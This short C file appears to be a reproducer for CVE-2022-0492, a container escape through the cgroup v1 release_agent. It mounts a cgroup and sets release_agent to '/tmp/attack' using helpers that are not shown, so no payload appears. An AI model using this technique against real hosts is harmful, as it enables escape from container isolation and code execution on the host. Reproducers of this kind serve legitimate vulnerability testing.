// SPDX-License-Identifier: GPL-2.0-only
// CVE-2022-0492: a hierarchy of cgroup v1, mounted in a container, has a
// release_agent: a program that the host's kernel starts outside.
#include "mount/mounts.h"

int main(void)
{
	own_mounts();
	mount_at_point("cgroup", "cgroup", "none,name=attack");
	change(POINT "/release_agent", "/tmp/attack");
}
